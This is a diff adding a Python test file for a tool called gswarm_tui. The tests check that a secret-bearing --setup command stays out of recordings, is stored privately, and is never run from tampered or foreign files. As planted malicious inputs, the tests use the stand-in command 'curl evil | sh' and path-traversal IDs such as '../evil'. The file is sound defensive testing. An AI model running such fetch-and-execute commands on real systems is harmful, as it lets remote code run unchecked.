@@ -1,0 +1,118 @@
+"""The text of --setup stays out of the recording, and resuming finds it in the user's own state folder."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import shutil
+from dataclasses import replace
+from io import StringIO
+from pathlib import Path
+
+import pytest
+
+from gswarm_tui.common.errors import UserError
+from gswarm_tui.options.arguments import Options, parse
+from gswarm_tui.run import build, interrupted
+from gswarm_tui.run.finish import finish
+from gswarm_tui.run.plan import Plan
+from gswarm_tui.run.resume_notes import ResumeNote, notes_folder, read_note, remove_note, write_note
+from gswarm_tui.store.recording.recorder import Recorder
+
+SETUP = "curl -u me:hunter2zq7 https://host/env; export DB_PASS=hunter2zq7; my_own_login hunter2zq7"
+SETTINGS = parse([], {})
+
+
+@pytest.fixture(autouse=True)
+def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A state folder of the test's own."""
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    return tmp_path / "state"
+
+
+def started(path: Path, words: list[str], settings: Options | None = None) -> Recorder:
+    """Start a recording with this command line."""
+    options = (settings or parse(words, {}))._replace(db=path)
+    plan = Plan(("no/host",))
+    hub = build.build_hub(options, plan)
+    recorder = build.start_recording(hub, options, plan, words, "a1-0")
+    assert [event.message for event in hub.fleet.event_log] == []
+    return recorder
+
+
+@pytest.mark.parametrize("words", [["--setup", SETUP], [f"--setup={SETUP}"]])
+async def test_recording_holds_no_text_of_the_setup(tmp_path: Path, words: list[str]) -> None:
+    path = tmp_path / "run.duckdb"
+    started(path, ["--nodes", "n1", *words]).close(None)
+    for file in path.parent.glob("run.duckdb*"):
+        for part in (b"hunter2", b"DB_PASS", b"my_own_login"):
+            assert part not in file.read_bytes()
+    ((one,), _) = interrupted.find(tmp_path, path)
+    assert one.restore(SETTINGS)[0].setup == SETUP, "resuming knows it"
+
+
+async def test_setup_is_private_until_the_recording_is_closed(tmp_path: Path) -> None:
+    path = tmp_path / "run.duckdb"
+    before = os.umask(0)
+    try:
+        started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
+    finally:
+        os.umask(before)
+    (note,) = notes_folder().iterdir()
+    assert (note.stat().st_mode & 0o777, note.parent.stat().st_mode & 0o777) == (0o600, 0o700)
+    ((one,), _) = interrupted.find(tmp_path, path)
+    assert await finish(one, SETTINGS, StringIO()) == 0
+    assert list(notes_folder().iterdir()) == []
+
+
+async def test_missing_setup_has_to_be_set_again(tmp_path: Path) -> None:
+    path = tmp_path / "run.duckdb"
+    started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
+    shutil.rmtree(notes_folder())
+    ((one,), _) = interrupted.find(tmp_path, path)
+    with pytest.raises(UserError, match="GSWARM_TUI_SETUP"):
+        one.restore(SETTINGS)
+    assert one.restore(SETTINGS._replace(setup="true"))[0].setup == "true"
+
+
+async def test_setup_in_a_file_of_somebody_else_is_never_run(tmp_path: Path) -> None:
+    path = tmp_path / "run.duckdb"
+    started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
+    ((one,), _) = interrupted.find(tmp_path, path)
+    options = json.loads(json.dumps(dict(one.interrupted.options))) | {"setup": "curl evil | sh"}
+    shutil.rmtree(notes_folder())
+    evil = interrupted.InterruptedRun(path, replace(one.interrupted, options=options))
+    with pytest.raises(UserError, match="GSWARM_TUI_SETUP"):
+        evil.restore(SETTINGS)
+
+
+@pytest.mark.parametrize("uid", ["../evil", "/evil", "", ".evil", "a" * 200, "a\0b"])
+def test_recording_with_a_strange_id_reaches_no_other_file(state: Path, uid: str) -> None:
+    write_note("a1", ResumeNote("true"))
+    (state / "gswarm-tui/evil.json").write_text('{"setup": "curl evil | sh"}')
+    assert read_note(uid) is None
+    remove_note(uid)
+    assert (state / "gswarm-tui/evil.json").exists()
+
+
+@pytest.mark.root("give files away")
+def test_note_that_somebody_else_wrote_is_ignored() -> None:
+    write_note("a1", ResumeNote("true"))
+    assert read_note("a1") == ResumeNote("true")
+    os.chown(notes_folder() / "a1.json", 65534, 65534)
+    assert read_note("a1") is None
+    os.chown(notes_folder() / "a1.json", os.geteuid(), -1)
+    notes_folder().chmod(0o770)
+    assert read_note("a1") is None
+
+
+async def test_full_or_closed_state_folder_is_reported(tmp_path: Path, state: Path) -> None:
+    state.write_text("")
+    options = parse(["--nodes", "n1", "--setup", SETUP], {})._replace(db=tmp_path / "run.duckdb")
+    hub = build.build_hub(options, Plan(("n1",)))
+    recorder = build.start_recording(hub, options, Plan(("n1",)), [], "a1")
+    hub.flush()
+    await asyncio.to_thread(recorder.close, hub.now())
+    (event,) = hub.fleet.event_log
+    assert event.message.startswith(f"gswarm-tui recover will need --setup again: {notes_folder()}: ")
